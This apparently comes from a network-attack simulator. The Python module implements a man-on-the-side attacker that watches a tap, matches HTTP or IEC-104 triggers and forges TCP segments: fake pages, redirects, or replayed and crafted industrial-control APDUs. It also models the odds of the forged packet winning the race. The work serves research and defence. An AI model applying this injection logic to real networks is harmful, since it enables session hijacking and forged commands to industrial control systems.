"""The man-on-the-side attacker and the race model.

The attacker listens on a mirror port, never transmits there, and injects
through its ordinary access port.  A forged segment wins when it reaches the
victim before the genuine one: the victim's stack takes the first segment at
``rcv_nxt`` and drops whatever comes second.
"""
from __future__ import annotations

import enum
import math
from dataclasses import dataclass, field
from typing import Callable

import numpy as np
from scipy import integrate, stats

from . import iec104
from .httpmini import HttpError, HttpResponse, parse_request
from .iec104 import Apdu, Asdu, Cot, Format, TypeId
from .simnet import HostProfile, SimTime
from .tcpstack import MOD, TcpConfig, TcpHost, seq_lt
from .wire import TcpFlags, WireError, WirePacket, decode, encode, ip_str, mac_str, make_packet

HTTP_PORT = 80


class ForgeError(ValueError):
    pass


class Protocol(enum.Enum):
    HTTP = "Http"
    IEC104 = "Iec104"


class FlagsMode(enum.Enum):
    FIN_ACK = "FinAck"
    PUSH_ACK = "PushAck"

    @property
    def flags(self) -> TcpFlags:
        if self is FlagsMode.FIN_ACK:
            return TcpFlags.FIN | TcpFlags.ACK
        return TcpFlags.PSH | TcpFlags.ACK


class AckMode(enum.Enum):
    STANDARD = "standard"   # ack = request.seq + request length
    LITERAL = "literal"     # ack = request.seq


@dataclass
class DirectionState:
    mac: bytes = b""
    next_seq: int | None = None
    last_seq: int = 0
    last_ack: int = 0
    last_payload_len: int = 0
    request_seq: int | None = None
    request_len: int = 0
    iec_send: int | None = None    # N(S) of the latest I-frame + 1
    iec_recv: int | None = None    # latest N(R) carried


@dataclass
class ObservedConn:
    """What the tap has revealed about one connection, keyed by direction."""
    tuple: tuple
    directions: dict[tuple, DirectionState] = field(default_factory=dict)

    def side(self, direction: tuple) -> DirectionState:
        return self.directions.setdefault(direction, DirectionState())

    @property
    def iec104_counters(self) -> dict[tuple, tuple[int | None, int | None]]:
        return {d: (s.iec_send, s.iec_recv) for d, s in self.directions.items()}


@dataclass(frozen=True)
class TriggerRule:
    protocol: Protocol
    method: str = "GET"
    path: str = "/"
    cookie: str | None = None

    def matches(self, pkt: WirePacket, apdus: list[Apdu] | None) -> bool:
        if self.protocol is Protocol.HTTP:
            if pkt.tcp.dst_port != HTTP_PORT or not pkt.payload:
                return False
            try:
                req = parse_request(pkt.payload)
            except (HttpError, UnicodeDecodeError):
                return False
            if req.method != self.method or req.target != self.path:
                return False
            return self.cookie is None or self.cookie in req.headers.get("Cookie", "")
        if pkt.tcp.src_port != iec104.IEC104_PORT or not apdus:
            return False
        return any(a.format is Format.I and a.asdu.type_id == TypeId.C_IC_NA_1
                   and a.asdu.cot == Cot.ACTCON for a in apdus)


class TemplateKind(enum.Enum):
    STATIC_HTTP_PAGE = "StaticHttpPage"
    HTTP_REDIRECT = "HttpRedirect"
    REPLAYED_APDUS = "ReplayedApdus"
    CRAFTED_APDUS = "CraftedApdus"


@dataclass(frozen=True)
class ForgeTemplate:
    kind: TemplateKind
    flags_mode: FlagsMode = FlagsMode.FIN_ACK
    body: bytes = b""
    location: str = ""
    replay_payload: bytes | None = None
    asdus: tuple[Asdu, ...] = ()
    ack_mode: AckMode = AckMode.STANDARD
    ttl: int = 64

    @classmethod
    def static_page(cls, body: bytes, **kw) -> "ForgeTemplate":
        return cls(TemplateKind.STATIC_HTTP_PAGE, body=body, **kw)

    @classmethod
    def redirect(cls, location: str, **kw) -> "ForgeTemplate":
        return cls(TemplateKind.HTTP_REDIRECT, location=location, **kw)

    @classmethod
    def replay(cls, payload: bytes | None, **kw) -> "ForgeTemplate":
        kw.setdefault("flags_mode", FlagsMode.PUSH_ACK)
        return cls(TemplateKind.REPLAYED_APDUS, replay_payload=payload, **kw)

    @classmethod
    def crafted(cls, asdus, **kw) -> "ForgeTemplate":
        kw.setdefault("flags_mode", FlagsMode.PUSH_ACK)
        return cls(TemplateKind.CRAFTED_APDUS, asdus=tuple(asdus), **kw)

    def payload(self, first_ns: int | None, nr: int | None) -> bytes:
        if self.kind is TemplateKind.STATIC_HTTP_PAGE:
            return HttpResponse(200, self.body, {"Content-Type": "text/html",
                                                 "Connection": "close"}).serialize()
        if self.kind is TemplateKind.HTTP_REDIRECT:
            return HttpResponse(301, b"", {"Location": self.location,
                                           "Connection": "close"}).serialize()
        if self.kind is TemplateKind.REPLAYED_APDUS:
            if not self.replay_payload:
                raise ForgeError("replay template has no captured payload")
            return self.replay_payload
        if first_ns is None or nr is None:
            raise ForgeError("no IEC-104 counter context observed for this connection")
        apdus = [Apdu.i((first_ns + k) % iec104.SEQ_MOD, nr, asdu)
                 for k, asdu in enumerate(self.asdus)]
        return iec104.pack_apdus(apdus)


@dataclass(frozen=True)
class Firing:
    time: SimTime
    conn: ObservedConn
    trigger: WirePacket
    rule: TriggerRule


def _direction(pkt: WirePacket) -> tuple:
    return (pkt.ip.src_ip, pkt.tcp.src_port, pkt.ip.dst_ip, pkt.tcp.dst_port)


def _canonical(d: tuple) -> tuple:
    a, b = (d[0], d[1]), (d[2], d[3])
    return (a, b) if a <= b else (b, a)


class Observer:
    """Tracks connections seen on the tap and evaluates trigger rules."""

    def __init__(self, rules: list[TriggerRule], ignore_mac: bytes = b""):
        self.rules = rules
        self.ignore_mac = ignore_mac
        self.conns: dict[tuple, ObservedConn] = {}

    def observe(self, pkt: WirePacket, now: SimTime = 0) -> Firing | None:
        if pkt.eth.src_mac == self.ignore_mac:
            return None
        d = _direction(pkt)
        key = _canonical(d)
        conn = self.conns.setdefault(key, ObservedConn(key))
        side = conn.side(d)
        tcp = pkt.tcp
        side.mac = pkt.eth.src_mac
        side.last_seq, side.last_ack = tcp.seq, tcp.ack
        side.last_payload_len = len(pkt.payload)
        end = (tcp.seq + pkt.seq_len) % MOD
        if side.next_seq is None or seq_lt(side.next_seq, end):
            side.next_seq = end
        if pkt.payload:
            side.request_seq, side.request_len = tcp.seq, len(pkt.payload)
        apdus = None
        if iec104.IEC104_PORT in (tcp.src_port, tcp.dst_port) and pkt.payload:
            try:
                apdus = iec104.split_apdus(pkt.payload)
            except iec104.Iec104Error:
                apdus = None
            for a in apdus or ():
                if a.format is Format.I:
                    side.iec_send = (a.ns + 1) % iec104.SEQ_MOD
                if a.format in (Format.I, Format.S):
                    side.iec_recv = a.nr
        for rule in self.rules:
            if rule.matches(pkt, apdus):
                return Firing(now, conn, pkt, rule)
        return None


def forge_response(firing: Firing, template: ForgeTemplate, ip_id: int) -> list[WirePacket]:
    """Build the injected packet(s) for one trigger firing.

    The forged segment travels from the responder to the victim.  For an
    HTTP trigger the victim is the sender of the trigger and the headers are
    mirrored from it; for an IEC-104 trigger (the responder's ActCon) the
    segment continues the responder's own stream.  Either way it starts at
    the responder's next sequence number, and acknowledges the victim's last
    request according to ``template.ack_mode``.
    """
    trig = firing.trigger
    d = _direction(trig)
    if firing.rule.protocol is Protocol.HTTP:
        victim_d, resp_d = d, (d[2], d[3], d[0], d[1])
    else:
        resp_d, victim_d = d, (d[2], d[3], d[0], d[1])
    conn = firing.conn
    victim, responder = conn.side(victim_d), conn.side(resp_d)
    if victim.request_seq is None:
        raise ForgeError("no victim request observed on this connection")
    if firing.rule.protocol is Protocol.HTTP:
        seq = trig.tcp.ack
        resp_mac = trig.eth.dst_mac
    else:
        seq = responder.next_seq
        resp_mac = trig.eth.src_mac
    if template.ack_mode is AckMode.LITERAL:
        ack = victim.request_seq
    else:
        ack = (victim.request_seq + victim.request_len) % MOD
    first_ns = nr = None
    if firing.rule.protocol is Protocol.IEC104:
        ifr = [a for a in iec104.split_apdus(trig.payload) if a.format is Format.I]
        first_ns, nr = ifr[0].ns, ifr[0].nr
    payload = template.payload(first_ns, nr)
    pkt = make_packet(mac_str(resp_mac), mac_str(victim.mac or trig.eth.src_mac),
                      ip_str(resp_d[0]), ip_str(resp_d[2]), resp_d[1], resp_d[3],
                      seq, ack, template.flags_mode.flags, payload,
                      ip_id=ip_id, ttl=template.ttl)
    return [pkt]


class AttackerHost(TcpHost):
    """Observes on ``tap``, injects on ``eth0``, may also serve HTTP itself."""

    def __init__(self, profile: HostProfile, rules: list[TriggerRule],
                 template: ForgeTemplate | None, forge_delay: SimTime | Callable = 0,
                 tcp_config: TcpConfig | None = None, max_firings: int = 1):
        super().__init__(profile, tcp_config)
        from .wire import mac_bytes
        self.observer = Observer(rules, mac_bytes(profile.mac))
        self.template = template
        self.forge_delay = forge_delay
        self.max_firings = max_firings
        self.firings: list[Firing] = []
        self.injected: list[tuple[SimTime, bytes, str]] = []
        self.on_inject: list[Callable[[bytes, str], None]] = []
        self.errors: list[str] = []

    def receive(self, frame: bytes, iface: str) -> None:
        if iface != "tap":
            super().receive(frame, iface)
            return
        try:
            pkt = decode(frame)
        except WireError:
            return
        firing = self.observer.observe(pkt, self.sim.now)
        if firing is None or self.template is None or len(self.firings) >= self.max_firings:
            return
        self.firings.append(firing)
        delay = self.forge_delay(self.rng) if callable(self.forge_delay) else self.forge_delay
        self.sim.call_later(int(delay), lambda: self._inject(firing), "host-task")

    def _inject(self, firing: Firing) -> None:
        try:
            packets = forge_response(firing, self.template, self.rng.getrandbits(16))
        except ForgeError as exc:
            self.errors.append(str(exc))
            return
        reason = f"forged {self.template.kind.value} ({self.template.flags_mode.value})"
        for pkt in packets:
            frame = encode(pkt)
            self.injected.append((self.sim.now, frame, reason))
            for hook in self.on_inject:
                hook(frame, reason)
            self.send_frame(frame, "eth0")


# -- race model ---------------------------------------------------------------

@dataclass(frozen=True)
class Dist:
    """A delay distribution in microseconds."""
    kind: str
    a: float = 0.0
    b: float = 0.0

    @classmethod
    def constant(cls, v: float) -> "Dist":
        return cls("constant", v)

    @classmethod
    def uniform(cls, lo: float, hi: float) -> "Dist":
        return cls("uniform", lo, hi)

    @classmethod
    def normal(cls, mean: float, sd: float) -> "Dist":
        return cls("normal", mean, sd)

    @classmethod
    def exponential(cls, mean: float) -> "Dist":
        return cls("exponential", mean)

    @classmethod
    def coerce(cls, value) -> "Dist":
        if isinstance(value, Dist):
            return value
        if isinstance(value, (int, float)):
            return cls.constant(value)
        if isinstance(value, (tuple, list)):
            return cls(value[0], *value[1:])
        raise TypeError(f"cannot interpret {value!r} as a distribution")

    def frozen(self):
        if self.kind == "uniform":
            return stats.uniform(self.a, self.b - self.a)
        if self.kind == "normal":
            return stats.norm(self.a, self.b)
        if self.kind == "exponential":
            return stats.expon(scale=self.a)
        raise ValueError(f"no continuous law for {self.kind!r}")

    def sample(self, rng: np.random.Generator, n: int) -> np.ndarray:
        if self.kind == "constant":
            return np.full(n, float(self.a))
        if self.kind == "uniform":
            return rng.uniform(self.a, self.b, n)
        if self.kind == "normal":
            return rng.normal(self.a, self.b, n)
        if self.kind == "exponential":
            return rng.exponential(self.a, n)
        raise ValueError(f"unknown distribution {self.kind!r}")

    def sampler(self) -> Callable:
        """Per-event sampler drawing from a host's ``random.Random``."""
        def draw(rng) -> int:
            if self.kind == "constant":
                v = self.a
            elif self.kind == "uniform":
                v = rng.uniform(self.a, self.b)
            elif self.kind == "normal":
                v = rng.gauss(self.a, self.b)
            else:
                v = rng.expovariate(1 / self.a)
            return max(0, round(v))
        return draw


@dataclass(frozen=True)
class RacePaths:
    """Fixed latencies around the two competing delays, in microseconds."""
    to_tap: float = 100        # victim request -> attacker tap
    attacker_to_victim: float = 200
    to_server: float = 200     # victim request -> responder
    server_to_victim: float = 200

    @property
    def offset(self) -> float:
        """legit fixed part minus forged fixed part."""
        return (self.to_server + self.server_to_victim) - (self.to_tap + self.attacker_to_victim)


def race_outcome(attacker_delay_dist, server_delay, trials: int, seed: int,
                 paths: RacePaths | None = None) -> float:
    """Fraction of trials where the forged segment reaches the victim first."""
    if trials < 1:
        raise ValueError("trials must be >= 1")
    paths = paths or RacePaths()
    rng = np.random.default_rng(seed)
    a = Dist.coerce(attacker_delay_dist).sample(rng, trials)
    s = Dist.coerce(server_delay).sample(rng, trials)
    forged = paths.to_tap + a + paths.attacker_to_victim
    legit = paths.to_server + s + paths.server_to_victim
    return float(np.mean(forged < legit))


def analytic_win_probability(attacker_delay_dist, server_delay,
                             paths: RacePaths | None = None) -> float:
    """P(A < S + offset) by direct integration of the two laws."""
    paths = paths or RacePaths()
    A, S = Dist.coerce(attacker_delay_dist), Dist.coerce(server_delay)
    off = paths.offset
    if A.kind == "constant" and S.kind == "constant":
        return float(A.a < S.a + off)
    if S.kind == "constant":
        return float(A.frozen().cdf(S.a + off))
    if A.kind == "constant":
        return float(S.frozen().sf(A.a - off))
    if A.kind == "normal" and S.kind == "normal":
        return float(stats.norm.cdf((S.a + off - A.a) / math.hypot(A.b, S.b)))
    fa, fs = A.frozen(), S.frozen()
    lo, hi = fs.ppf(1e-12), fs.isf(1e-12)
    val, _ = integrate.quad(lambda s: fs.pdf(s) * fa.cdf(s + off), lo, hi, limit=200)
    return float(val)
